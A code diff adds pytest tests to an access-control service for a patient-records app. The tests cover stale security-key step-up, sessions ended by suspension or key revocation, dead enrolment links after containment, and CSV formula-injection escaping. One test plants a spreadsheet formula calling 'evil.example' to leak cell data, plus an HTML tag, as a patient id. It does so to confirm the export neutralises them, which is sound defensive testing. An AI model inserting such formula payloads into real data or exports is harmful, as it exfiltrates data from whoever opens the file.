@@ -3,19 +3,22 @@
 from __future__ import annotations
 
 import dataclasses
+import html
 import json
 import sqlite3
 import time
 from contextlib import closing
+from pathlib import Path
 from typing import Any
 
 import httpx
 import pytest
 
 from accessguard.audit.reviews import declare_emergency
+from accessguard.containment import resume, suspend
 from accessguard.errors import ConfigurationError
 from tests.audit_support import run_cli
-from tests.authenticators import enrolled_key, key_session, reasons, redeem_link
+from tests.authenticators import assertion, enrolled_key, key_session, reasons, redeem_link
 from tests.conftest import CAEN, Demo
 
 HTML = {"accept": "text/html"}
@@ -53,6 +56,53 @@ def test_every_action_needs_an_administrator_with_a_fresh_security_key(asgi_demo
         assert doctor.get(page, headers=HTML).status_code == 403
         assert admin_totp.get(page, headers=HTML, follow_redirects=False).headers["location"].startswith("/accessguard/step-up?")
     assert asgi_demo.guard.authenticators.of_account("inf.dubois", states=("active",))  # nothing was done
+
+
+def test_a_security_key_verified_more_than_15_minutes_ago_administers_nothing_until_verified_again(asgi_demo: Demo) -> None:
+    key = enrolled_key(asgi_demo, "admin")
+    admin = key_session(asgi_demo, "admin", key)
+    assert admin.post("/accessguard/admin/contain", json={"enrolled_after": "1h"}).status_code == 200  # fresh: a preview
+    asgi_demo.clock.advance(15 * 60 + 1)
+    for path, body in ACTIONS.items():
+        assert reasons(admin.post(path, json=body)) == ["phishing_resistant_required"], path
+    for page in ("/accessguard/admin", "/accessguard/admin/scope?subject=dr.martin&since=1h&format=csv"):
+        stale = admin.get(page, headers=HTML, follow_redirects=False)
+        assert stale.status_code == 303 and stale.headers["location"].startswith("/accessguard/step-up?"), page
+    assert not _events(asgi_demo, "breach_scope_read")
+    assert assertion(admin, key).status_code == 200
+    assert admin.post("/accessguard/admin/contain", json={"enrolled_after": "1h"}).status_code == 200
+
+
+def test_an_open_console_or_own_page_acts_no_more_once_its_account_is_suspended(asgi_demo: Demo) -> None:
+    """The tab stays open in the browser; its session does not survive the suspension, nor the resume."""
+    guard = asgi_demo.guard
+    admin = _admin(asgi_demo)
+    nurse = asgi_demo.login("inf.dubois")
+    app = guard.authenticators.of_account("inf.dubois", "totp", ("active",))[0].id
+    for account in ("admin", "inf.dubois"):
+        suspend(guard.accounts, guard.authenticators, guard.store, guard.access_log, account, "compromised", operator="soc")
+    assert reasons(admin.post("/accessguard/admin/suspend", json={"account": "dr.martin", "reason": "x"})) == ["authentication_required"]
+    assert reasons(nurse.post("/accessguard/account/report-lost", json={"authenticator": app})) == ["authentication_required"]
+    for account in ("admin", "inf.dubois"):
+        resume(guard.accounts, guard.store, guard.access_log, account, operator="soc")
+    assert reasons(admin.post("/accessguard/admin/suspend", json={"account": "dr.martin", "reason": "x"})) == ["authentication_required"]
+    assert admin.get("/accessguard/admin", headers=HTML, follow_redirects=False).headers["location"].startswith("/login?")
+    assert nurse.get("/accessguard/account", headers=HTML, follow_redirects=False).headers["location"].startswith("/login?")
+    assert guard.accounts.get("dr.martin").status == "active"  # type: ignore[union-attr]
+
+
+def test_revoking_a_stolen_key_ends_the_session_the_thief_verified_it_in(asgi_demo: Demo) -> None:
+    """Reported lost, revoked by an administrator: the thief's session, where the key still counted for 15 minutes, ends."""
+    stolen = enrolled_key(asgi_demo, "dr.martin")
+    thief = key_session(asgi_demo, "dr.martin", stolen)
+    [held] = asgi_demo.guard.authenticators.of_account("dr.martin", "webauthn", ("active",))
+    admin = _admin(asgi_demo)
+    revoked = admin.post("/accessguard/admin/revoke", json={"account": "dr.martin", "authenticator": held.id})
+    assert revoked.status_code == 200 and revoked.json()["sessions_ended"] == 1
+    refused = thief.post("/accessguard/enroll/totp/begin", json={"label": "mine now"})  # a new factor, to stay
+    assert (refused.status_code, reasons(refused)) == (401, ["authentication_required"])
+    assert [a.label for a in asgi_demo.guard.authenticators.of_account("dr.martin", "totp")] == ["demo authenticator app"]
+    assert admin.get("/accessguard/admin", headers=HTML).status_code == 200  # the administrator's own session goes on
 
 
 def test_accounts_are_searched_and_filtered(asgi_demo: Demo) -> None:
@@ -130,6 +180,7 @@ def test_containment_is_previewed_then_confirmed_for_the_accounts_previewed(asgi
     window = str(int(asgi_demo.clock.now))
     asgi_demo.clock.advance(60)
     enrolled_key(asgi_demo, "dr.martin")
+    waiting = admin.post("/accessguard/admin/enrolment-link", json={"account": "dr.martin", "kind": "totp"}).json()["link"]
     preview = admin.post("/accessguard/admin/contain", json={"enrolled_after": window})
     assert preview.json() == {
         "enrolled_after": float(window),
@@ -145,6 +196,7 @@ def test_containment_is_previewed_then_confirmed_for_the_accounts_previewed(asgi
     done = admin.post("/accessguard/admin/contain", json={"enrolled_after": window, "confirm": True, "expect": ["dr.martin"]})
     assert done.status_code == 200 and done.json()["contained"] == ["dr.martin"]
     assert asgi_demo.guard.authenticators.of_account("dr.martin", "webauthn", ("contained",))
+    assert redeem_link(asgi_demo.client(), waiting).status_code == 410  # a link not used yet is a foothold too
     assert admin.get("/accessguard/admin", headers=HTML).status_code == 200  # the administrator's own key was older
     bad = admin.post("/accessguard/admin/contain", json={"enrolled_after": "last tuesday"})
     assert bad.status_code == 400 and "not a time" in bad.json()["detail"]
@@ -181,6 +233,29 @@ def test_breach_scope_gives_the_command_line_figures_and_is_logged(asgi_demo: De
     for bad in ("subject=inf.dubois&since=soon", f"subject=inf.dubois&since={until}&until={start}", f"{query}&format=xml"):
         assert admin.get(f"/accessguard/admin/scope?{bad}", headers=HTML).status_code == 400
     assert admin.get(f"/accessguard/admin/scope?subject=nobody&since={start}", headers=HTML).status_code == 404
+
+
+def test_a_patient_id_that_is_a_spreadsheet_formula_is_inert_in_the_breach_scope_download(asgi_demo: Demo) -> None:
+    """A patient record is the service's data: an id like ``=HYPERLINK(…)`` must not run when the DPO opens the CSV."""
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"open")'
+    with closing(sqlite3.connect(Path(asgi_demo.guard.settings.data_dir) / "patients.db")) as db, db:
+        db.execute(
+            "INSERT INTO patients SELECT ?, ins, first_name, ?, birth_date, phone, email FROM patients WHERE id = 'pat-0001'",
+            (formula, "<b>Zzhostile</b>"),
+        )
+    nurse = asgi_demo.login("inf.dubois")
+    start = int(asgi_demo.clock.now) - 1
+    served = nurse.get("/patients?q=<b>Zzhostile", headers={"x-forwarded-for": CAEN})
+    assert served.status_code == 200 and [p["id"] for p in served.json()["patients"]] == [formula]
+    asgi_demo.clock.advance(60)
+    admin = _admin(asgi_demo)
+    asgi_demo.guard.access_log.flush()
+    query = f"subject=inf.dubois&since={start}"
+    [heading, row] = admin.get(f"/accessguard/admin/scope?{query}&format=csv").text.splitlines()
+    assert heading == "patient,count,first,last"
+    assert row.startswith('"\'=HYPERLINK(""http://evil.example/?""&A1,""open"")",1,')  # text to a spreadsheet, not a formula
+    assert admin.get(f"/accessguard/admin/scope?{query}&format=json").json()[0]["patient"] == formula  # JSON keeps the id as is
+    assert html.escape(formula) in admin.get(f"/accessguard/admin/scope?{query}", headers=HTML).text
 
 
 def test_audit_page_verifies_the_log_lists_reviews_and_alerts_and_closes_a_review(asgi_demo: Demo) -> None:
